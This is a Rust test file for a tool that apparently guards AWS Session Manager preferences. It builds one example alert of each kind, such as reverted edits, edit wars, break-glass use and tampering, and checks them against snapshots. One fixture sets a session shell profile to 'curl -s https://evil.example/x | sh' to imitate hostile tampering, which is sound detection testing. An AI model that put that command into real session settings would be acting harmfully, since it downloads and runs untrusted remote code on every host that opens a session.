//! One alert of each kind as on-call reads it, each with a snapshot. Read them aloud when one changes.

use std::collections::{BTreeMap, BTreeSet};

use runas_reactor::domain::adoption;
use runas_reactor::domain::bypass::RuleChange;
use runas_reactor::domain::edit::{Action, Sharing};
use runas_reactor::domain::finding::{Alert, HubFinding, Kind, about_hub};
use runas_reactor::domain::judgement::judge;
use runas_reactor::domain::observation::Obstacle;
use runas_reactor::domain::policy::{ExemptionNote, Mode};
use runas_reactor::domain::principal::Attribution;
use runas_reactor::domain::signal::Cause;
use runas_reactor::domain::sweep::{Sweep, Ungoverned};
use runas_reactor::domain::target::AccountId;
use runas_reactor::domain::time::{DAY_MS, MINUTE_MS};
use serde_json::json;

use super::bypass;
use crate::support::case::*;

/// An administrator who signed in through Identity Center.
const ALICE: Who = Who {
    role: "aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_Admin_0123456789abcdef",
    session: "alice@example.com",
    attribution: Attribution::Untrusted,
    via_reactor_role: false,
};

#[test]
fn each_kind_reads_like_its_snapshot() {
    for kind in Kind::ALL {
        let alert = example(kind);
        assert_eq!(alert.kind, kind.as_str());
        let (severity, text) = (alert.severity.as_str(), &alert.text);
        insta::assert_snapshot!(kind.as_str(), format!("Subject: {}\nSeverity: {severity}\n\n{text}", alert.subject));
    }
}

#[test]
fn subject_says_the_verdict_first_and_is_whole() {
    for kind in Kind::ALL {
        let subject = example(kind).subject;
        let (verdict, story) = subject.split_once(": ").unwrap_or_default();
        assert!((3..=24).contains(&verdict.len()) && !story.is_empty(), "{subject}");
        assert!(subject.chars().count() < 100 && !subject.contains('…'), "{subject}");
    }
}

#[test]
fn alert_that_pages_says_what_to_do() {
    for kind in Kind::ALL {
        let alert = example(kind);
        let to_do = alert.data["to_do"].as_str().unwrap();
        assert!(alert.severity.as_str() == "info" || !to_do.starts_with("Nothing"), "{}: {to_do}", alert.kind);
    }
}

/// One alert of a kind; the match has no wildcard, so that a new kind needs an example.
pub(crate) fn example(kind: Kind) -> Alert {
    match kind {
        Kind::EditReverted => edit_reverted(),
        Kind::EditKept => edit_kept(),
        Kind::EditNoticed => edit_noticed(),
        Kind::ExemptTouched => exempt_touched(),
        Kind::BreakGlass => break_glass(),
        Kind::EditWar => war(Kind::EditWar),
        Kind::IncidentResolved => war(Kind::IncidentResolved),
        Kind::AuthorKnown => author_known(),
        Kind::AttemptDenied => attempt_denied(),
        Kind::Unreachable => out_of_reach(Kind::Unreachable),
        Kind::ReachableAgain => out_of_reach(Kind::ReachableAgain),
        Kind::DriftObserved => drift_observed(),
        Kind::Adopted => adopted(),
        Kind::ConfigurationLag => configuration_lag(),
        Kind::ForwarderBlind => forwarder_blind(),
        Kind::ExemptionEnds => exemption_ends(),
        Kind::SweepUnfinished => sweep().unfinished(&hub(), at(7_200)),
        Kind::TargetsNotChecked => not_checked(),
        Kind::RegionUngoverned => sweep().newly_ungoverned(&hub(), at(7_200)).unwrap(),
        Kind::RunAsTagChanged => bypass::alert(&bypass::call(bypass::tagged())),
        Kind::AttributesChanged => bypass::alert(&bypass::call(bypass::mapped())),
        Kind::OtherSessionDocument => bypass::alert(&bypass::call(bypass::session_document("Standard_Stream"))),
        Kind::ReactorTampered => bypass::alert(&bypass::call(bypass::rule(RuleChange::Disabled))),
        Kind::UndecodableMessage => found(HubFinding::Undecodable, "no JSON: expected value at line 1 column 3"),
        Kind::UntrustedSource => found(
            HubFinding::Untrusted,
            "account 444455556666 says that account 555566667777 left the organisation, and is not the management account",
        ),
        Kind::UnknownAccount => found(
            HubFinding::UnknownAccount,
            "account 111111111111 is not in the organisation, although an event names it",
        ),
        Kind::PolicyUnreadable => {
            found(HubFinding::PolicyUnreadable, "BatchGetItem: the row of version 7 holds no policy")
        }
        Kind::GapRoleUsed => found(
            HubFinding::GapRoleUsed,
            "account 444455556666 was reached through AWSControlTowerExecution; its member role was last used at \
             2026-11-19T08:00:00Z",
        ),
    }
}

/// The first alert of a kind in some reconciliations.
fn first(kind: Kind, reconciliations: &[Reconciliation]) -> Alert {
    let mut alerts = reconciliations.iter().flat_map(Reconciliation::alerts);
    alerts.find(|alert| alert.kind == kind.as_str()).unwrap_or_else(|| panic!("no {kind:?}")).clone()
}

/// Run As off, and a shell profile in every session.
fn hostile() -> serde_json::Value {
    let mut inputs =
        right_but("shellProfile", json!({ "linux": "curl -s https://evil.example/x | sh", "windows": "" }));
    inputs["runAsEnabled"] = json!(false);
    inputs
}

fn edit_reverted() -> Alert {
    let mut target = Scenario::in_sync();
    let call = target.writes(ALICE, &hostile());
    target.wait(2);
    first(Kind::EditReverted, &[target.hears(&[call])])
}

fn edit_kept() -> Alert {
    let mut target = Scenario::in_sync();
    let mut theirs = right_but("kmsKeyId", "alias/session-logs");
    theirs["runAsEnabled"] = json!(false);
    let call = target.writes(PIPELINE, &theirs);
    target.wait(1);
    first(Kind::EditKept, &[target.hears(&[call])])
}

fn edit_noticed() -> Alert {
    let mut target = Scenario::in_sync();
    let mut call = target.call(MALLORY, Action::SharingChanged);
    call.edit.sharing = Some(Sharing { added: vec!["555566667777".to_owned()], removed: Vec::new() });
    first(Kind::EditNoticed, &[target.hears(&[call])])
}

fn exempt_touched() -> Alert {
    let mut target = Scenario::in_sync().exempt();
    "exemption \"appliance with its own users\"".clone_into(&mut target.resolution.reason);
    target.resolution.exemption = Some(note(&target, 60));
    let call = target.writes(ALICE, &right_but("runAsDefaultUser", "vendor"));
    first(Kind::ExemptTouched, &[target.hears(&[call])])
}

fn note(target: &Scenario, days: i64) -> ExemptionNote {
    let expires = target.now.plus_ms(days * DAY_MS);
    ExemptionNote { reason: "appliance with its own users".to_owned(), owner: "team-net".to_owned(), expires }
}

fn break_glass() -> Alert {
    let mut target = Scenario::in_sync();
    let call = target.writes(BREAK_GLASS, &run_as_off());
    target.wait(3);
    first(Kind::BreakGlass, &[target.hears(&[call])])
}

fn war(kind: Kind) -> Alert {
    let mut target = Scenario::in_sync();
    let mut reconciliations = Vec::new();
    for _ in 0..8 {
        let call = target.writes(MALLORY, &run_as_off());
        target.wait(1);
        reconciliations.push(target.hears(&[call]));
        reconciliations.extend(target.runs(11));
    }
    reconciliations.extend(target.runs(7_200));
    first(kind, &reconciliations)
}

fn author_known() -> Alert {
    let mut target = Scenario::in_sync();
    let call = target.writes(ALICE, &run_as_off());
    target.sweeps();
    target.runs(300);
    first(Kind::AuthorKnown, &[target.hears(&[call])])
}

fn attempt_denied() -> Alert {
    let mut target = Scenario::in_sync();
    let call = target.fails(EVE, Action::Deleted, "AccessDenied");
    first(Kind::AttemptDenied, &[target.hears(&[call])])
}

fn out_of_reach(kind: Kind) -> Alert {
    let mut target = Scenario::in_sync();
    target.obstacle = Some(Obstacle::Denied);
    let mut reconciliations = vec![target.sweeps()];
    target.wait(3_600);
    target.obstacle = None;
    reconciliations.push(target.sweeps());
    first(kind, &reconciliations)
}

fn drift_observed() -> Alert {
    let mut target = Scenario::found("eu-west-1", &right_but("runAsDefaultUser", "root"));
    target.resolution.mode = Mode::Observe;
    first(Kind::DriftObserved, &[target.sweeps()])
}

fn adopted() -> Alert {
    let mut target = Scenario::found("eu-west-1", &right_but("kmsKeyId", "alias/session-logs"));
    let case = target.case(Cause::Sweep, &[]);
    target.sweeps();
    adoption::adopted(&case, &judge(&case), &hub()).unwrap()
}

fn configuration_lag() -> Alert {
    let mut target = Scenario::blank();
    target.obstacle = Some(Obstacle::Denied);
    let mut reconciliations = vec![target.reconcile(Cause::AccountLifecycle, &[])];
    reconciliations.extend(target.runs(400));
    target.obstacle = None;
    reconciliations.extend(target.runs(60));
    first(Kind::ConfigurationLag, &reconciliations)
}

fn forwarder_blind() -> Alert {
    let mut target = Scenario::blank();
    target.reconcile(Cause::AccountLifecycle, &[]);
    target.now = target.now.plus_ms(120 * MINUTE_MS);
    first(Kind::ForwarderBlind, &[target.sweeps()])
}

fn exemption_ends() -> Alert {
    let mut target = Scenario::in_sync().exempt();
    target.resolution.exemption = Some(note(&target, 2));
    first(Kind::ExemptionEnds, &[target.sweeps()])
}

fn hub() -> AccountId {
    "222233334444".parse().unwrap()
}

/// A sweep that stopped after twelve accounts, one of which has a region that it did not have before.
fn sweep() -> Sweep {
    let ungoverned = |accounts| Ungoverned { accounts, first: "444455556666".parse().unwrap() };
    Sweep {
        id: "scheduled-2026-11-20".to_owned(),
        number: 41,
        step: 44,
        began: at(0),
        last_progress: at(240),
        ended: None,
        previous_completed: Some(at(-86_400)),
        accounts: 12,
        targets: 36,
        ungoverned: BTreeMap::from([
            ("ap-east-1".parse().unwrap(), ungoverned(1)),
            ("me-south-1".parse().unwrap(), ungoverned(2)),
        ]),
        notified: BTreeSet::from(["ap-east-1".parse().unwrap()]),
        walk: None,
    }
}

fn not_checked() -> Alert {
    let late = |region: &str, seconds| (region.parse().unwrap(), at(seconds));
    let targets = [late("eu-west-1", -180_000), late("us-east-1", -176_400)];
    sweep().not_checked(&"444455556666".parse().unwrap(), "search", &targets, at(7_200))
}

fn found(found: HubFinding, reason: &str) -> Alert {
    let id = "2f1b6a30-5c1d-4a7e-9f06-6d2a7b1c0e55";
    about_hub(found, &hub(), "key", Some(id), reason, at(7_200))
}
